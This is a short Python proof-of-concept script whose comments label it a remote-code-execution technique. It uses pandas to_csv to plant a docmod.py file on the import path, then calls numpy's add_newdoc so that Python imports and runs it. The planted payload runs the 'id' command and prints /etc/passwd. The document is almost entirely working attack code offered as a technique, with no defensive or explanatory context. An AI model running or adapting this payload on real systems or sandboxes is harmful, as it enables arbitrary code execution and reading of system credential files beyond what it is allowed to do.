# source: numpy add_newdoc __import__(place); sys.path[0] shadowing
# family: string->import via np.add_newdoc + planted .py via to_csv
# goal: RCE: id + /etc/passwd
import numpy as np
import pandas as pd
payload = "import os;print(os.popen('id').read());print(open('/etc/passwd').read());x=1"
pd.DataFrame({"c": [payload]}).to_csv("docmod.py", index=False, header=False)
np.add_newdoc("docmod", "x", "doc")
